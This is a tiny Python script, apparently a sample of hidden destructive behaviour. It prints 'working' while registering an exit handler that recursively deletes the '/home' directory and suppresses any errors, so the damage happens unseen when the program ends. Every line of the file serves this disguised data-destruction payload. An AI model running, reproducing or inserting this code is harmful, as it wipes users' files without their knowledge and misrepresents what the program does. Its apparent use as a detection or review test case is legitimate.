# tricky: at the end
import atexit, shutil
atexit.register(shutil.rmtree, "/home", True)
print("working")
